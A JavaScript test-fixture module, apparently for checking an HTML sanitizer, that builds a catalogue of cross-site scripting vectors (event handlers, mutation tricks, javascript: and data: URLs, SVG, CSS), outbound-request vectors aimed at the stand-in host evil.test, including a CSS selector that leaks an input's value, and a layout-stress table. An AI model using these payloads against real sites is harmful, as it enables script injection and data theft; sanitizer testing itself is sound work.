/** HTML that wants to run, to tell somebody that it is read, or to be taken for the page around it. */

/** Whatever runs says so: the tests give every frame a function `ran`. */
const RUN = "ran(document.baseURI)";

/** Nobody but the tests has this name. */
export const EVIL = "evil.test";

const url = (/** @type {string} */ path, scheme = "http") => `${scheme}://${EVIL}/${path}`;

/** @type {Record<string, string>} Scripts, in every place there is for one. */
const SCRIPTS = {
  element: `<script>${RUN}</script><script src="${url("s.js")}"></script><script type="module">${RUN}</script>`,
  handlers: ["onload", "onerror", "onfocus", "onpageshow", "onanimationstart", "ontoggle", "onpointerover"]
    .map((name) => `<body ${name}="${RUN}"><img src=x ${name}=${RUN}><details open ${name}="${RUN}">x</details>`)
    .join(""),
  autofocus: `<input autofocus onfocus="${RUN}"><div tabindex=0 autofocus onfocus="${RUN}">`,
  broken: `<img src=x onerror=${RUN} <scr<script>ipt>${RUN}</script><SCRIPT\n>${RUN}</SCRIPT\t>`,
  comments: `<!--><script>${RUN}</script>--><!-- --!><script>${RUN}</script>`,
  svg: `<svg onload="${RUN}"><script>${RUN}</script><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  svgLinks: `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"></use></svg>`,
  math: `<math><mtext></table><mglyph><style><img src=x onerror=${RUN}></style></mglyph></mtext></math>`,
  noscript: `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  template: `<template><script>${RUN}</script></template><template shadowrootmode=open><script>${RUN}</script></template>`,
  frames: `<iframe srcdoc="<script>${RUN}</script>"></iframe><iframe src="javascript:${RUN}"></iframe><iframe src="data:text/html,<script>${RUN}</script>"></iframe><frameset><frame src="javascript:${RUN}"></frameset>`,
  objects: `<object data="data:text/html,<script>${RUN}</script>"></object><embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>"><applet code=x>`,
  refresh: `<meta http-equiv=refresh content="0;url=javascript:${RUN}"><meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'">`,
  css: `<style>p{background:url("javascript:${RUN}");behavior:url(#x);-moz-binding:url("data:text/xml,x")}</style><p style="width:expression(${RUN})">x`,
  xml: `<?xml version="1.0"?><?xml-stylesheet href="javascript:${RUN}"?><html xmlns:x="http://www.w3.org/1999/xhtml"><x:script>${RUN}</x:script>`,
};

/** @type {Record<string, string>} What would be fetched, or connected to. */
const REQUESTS = {
  images: `<img src="${url("1")}"><img srcset="${url("2")} 1x"><picture><source srcset="${url("3", "https")}"><img></picture><input type=image src="${url("4")}"><body background="${url("5")}"><table background="${url("6")}">`,
  media: `<video src="${url("1")}" poster="${url("2")}" autoplay></video><audio src="${url("3")}" autoplay></audio><video><source src="${url("4")}"><track default src="${url("5")}"></video>`,
  styles: `<link rel=stylesheet href="${url("1")}"><style>@import "${url("2")}";@import url(${url("3", "https")});p{background:url(${url("4")});list-style:url(${url("5")});cursor:url(${url("6")}),auto;content:url(${url("7")})}@font-face{font-family:x;src:url(${url("8")})}p{font-family:x}</style><p style="background:u\\72l(${url("9")})">x</p>`,
  exfiltration: `<style>input[value^=s]{background:url(${url("s")})}</style><input value=secret><style>:root:has(input[value$=t]){background:image-set("${url("t")}" 1x)}</style>`,
  links: ["prefetch", "dns-prefetch", "preconnect", "prerender", "preload", "modulepreload", "icon", "manifest", "next"]
    .map(
      (rel) =>
        `<link rel=${rel} href="${url(rel)}" as=image><!-- --!><link rel=${rel} href="//${EVIL}:443" crossorigin>`,
    )
    .join(""),
  frames: `<iframe src="${url("1")}"></iframe><object data="${url("2")}"></object><embed src="${url("3")}"><frameset><frame src="${url("4")}"></frameset><portal src="${url("5")}"></portal>`,
  refresh: `<meta http-equiv=refresh content="0;url=${url("1")}">`,
  base: `<base href="${url("")}" target=_top><img src=1.png><link rel=stylesheet href=2.css><a href=3>x</a>`,
  svg: `<svg><image href="${url("1")}"/><use xlink:href="${url("2")}#x"/><filter id=f><feImage href="${url("3")}"/></filter><rect width=9 height=9 filter="url(${url("4")}#f)" fill="url(${url("5")}#g)"/></svg>`,
  forms: `<form action="${url("1")}"><input name=x autofocus><button>x</button></form><isindex action="${url("2")}">`,
  dns: `<meta http-equiv="x-dns-prefetch-control" content="on"><a href="${url("1", "https")}">x</a><a href="#" ping="${url("2")}">y</a>`,
  reports: `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; report-uri ${url("1")}">`,
};

/** As much of it as a browser has to lay out. */
const LARGE = `<table>${"<tr><td>".repeat(300)}${"<table><tr><td>".repeat(300)}x${"<td>x".repeat(20_000)}`;

export const CORPUS = { ...prefixed("script", SCRIPTS), ...prefixed("request", REQUESTS), "huge tables": LARGE };

/**
 * @param {string} kind
 * @param {Record<string, string>} some
 */
function prefixed(kind, some) {
  return Object.fromEntries(Object.entries(some).map(([name, html]) => [`${kind}: ${name}`, html]));
}
